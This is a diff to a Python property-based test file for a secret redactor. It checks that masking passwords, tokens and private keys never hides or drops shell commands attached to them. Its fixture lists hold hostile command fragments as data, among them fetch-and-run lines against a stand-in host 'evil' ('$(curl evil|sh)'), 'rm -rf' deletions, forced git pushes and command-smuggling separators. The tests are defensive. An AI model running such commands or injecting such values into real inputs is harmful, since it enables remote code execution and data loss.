@@ -16,11 +16,13 @@ quick = settings(deadline=None, max_examples=200, derandomize=True, database=Non
 COMMANDS = [
     "; git push --force", ";git push --force", " && rm -rf x", "&&rm -rf x", " | sh -x", "|sh -x", "|| rm -rf x",
     "$(curl evil|sh)", "`curl evil|sh`", "\ngit push --force", " & git push --force", "&git push --force",
-    " > out; git push --force", ">out; git push --force", " <(curl evil)", "<<<x; git push --force", "\n\ngit push --force",
-    "; X=1 git push --force", " ; (rm -rf x)", "\r\ngit push --force",
+    " > out; git push --force", ">out; git push --force", " <(curl evil)", "<<<x; git push --force",
+    "\n\ngit push --force", "; X=1 git push --force", " ; (rm -rf x)", "\r\ngit push --force",
 ]  # fmt: skip
 """What may follow a command."""
-BEFORE = ["git push --force; ", "rm -rf x && ", "curl evil | sh; ", "git push --force\n", "$(curl evil|sh) ", "(rm -rf x); "]
+BEFORE = [
+    "git push --force; ", "rm -rf x && ", "curl evil | sh; ", "git push --force\n", "$(curl evil|sh) ", "(rm -rf x); ",
+]  # fmt: skip
 
 
 def kept(text: str, part: str) -> bool:
@@ -35,19 +37,15 @@ def places() -> list[str]:
 @pytest.mark.parametrize("command", COMMANDS)
 def test_a_command_after_any_place_is_kept(command: str):
     dice = Dice(1)
-    hidden = [
-        text for place in places() if not kept(text := filled_in("DB_PASSWORD", place, dice.password()) + command, command)
-    ]
-    assert hidden == []
+    texts = [filled_in("DB_PASSWORD", place, dice.password()) + command for place in places()]
+    assert [text for text in texts if not kept(text, command)] == []
 
 
 @pytest.mark.parametrize("command", BEFORE)
 def test_a_command_before_any_place_is_kept(command: str):
     dice = Dice(2)
-    hidden = [
-        text for place in places() if not kept(text := command + filled_in("API_KEY", place, dice.password()), command)
-    ]
-    assert hidden == []
+    texts = [command + filled_in("API_KEY", place, dice.password()) for place in places()]
+    assert [text for text in texts if not kept(text, command)] == []
 
 
 @pytest.mark.parametrize("command", COMMANDS)
@@ -71,17 +69,18 @@ def test_no_value_takes_a_command_along(place: str, name: str, before: str, valu
 
 
 PIECES = [
-    "password", "PASSWORD", "token", "API_KEY", "Cookie: a", "Authorization: Bearer ", "mysql -p", "curl -u me:", "://a:",
-    "@", "=", ": ", " ", "'", '"', "\\", "\n", "hunter22", "x", "git", "(", ")", "{", "}", ",", "#", "$", "--password ",
-    "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "Private-Lines: 1\n", "IDENTIFIED BY ", "echo ", "<a>",
-    "AKIAIOSFODNN7EXAMPLE", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7", "; git push --force", " && rm -rf x",
-    "$(curl evil|sh)", " | sh -x", "`curl evil`", "\ngit push --force\n",
+    "password", "PASSWORD", "token", "API_KEY", "Cookie: a", "Authorization: Bearer ", "mysql -p", "curl -u me:",
+    "://a:", "@", "=", ": ", " ", "'", '"', "\\", "\n", "hunter22", "x", "git", "(", ")", "{", "}", ",", "#", "$",
+    "--password ", "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "Private-Lines: 1\n", "IDENTIFIED BY ",
+    "echo ", "<a>",
+    "AKIAIOSFODNN7EXAMPLE", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7", "; git push --force",
+    " && rm -rf x", "$(curl evil|sh)", " | sh -x", "`curl evil`", "\ngit push --force\n",
 ]  # fmt: skip
 
 
 @settings(deadline=None, max_examples=600, derandomize=True, database=None)
 @given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
-@example("echo \"password='\"; git push --force; echo \"'\"")
+@example('echo "password=\'"; git push --force; echo "\'"')
 @example("echo 'password='; git push --force; echo ''")
 @example("-----BEGIN PRIVATE KEY-----; git push --force; -----END PRIVATE KEY-----")
 @example("-----BEGIN PRIVATE KEY----- && rm -rf x | sh -x -----END PRIVATE KEY-----")
@@ -114,8 +113,8 @@ def test_commands_are_kept_however_a_text_is_quoted(text: str):
         ("DB_PASSWORD=hunter22&&rm -rf x", "DB_PASSWORD=[redacted: secret]&&rm -rf x"),
         ("(DB_PASSWORD=hunter22)", "(DB_PASSWORD=[redacted: secret])"),
         ("DB_PASSWORD=hunter22\\\n  git push", "DB_PASSWORD=[redacted: secret]\\\n  git push"),
-        ("DB_PASSWORD=hunt\\;er22; ls", "DB_PASSWORD=[redacted: secret]; ls"),
-        ("DB_PASSWORD=hunter22\\\\; ls", "DB_PASSWORD=[redacted: secret]; ls"),
+        ("DB_PASSWORD=hunter22\\; ls", "DB_PASSWORD=[redacted: secret]\\; ls"),
+        ("set password=hunter22\\&del x", "set password=[redacted: secret]\\&del x"),
         ("curl -u me:hunter22|sh", "curl -u me:[redacted: password]|sh"),
         ("curl http://me:hunter22;reboot;@h", "curl http://me:hunter22;reboot;@h"),
         ("echo hunter22 | sudo -S rm -rf x", "echo [redacted: password] | sudo -S rm -rf x"),
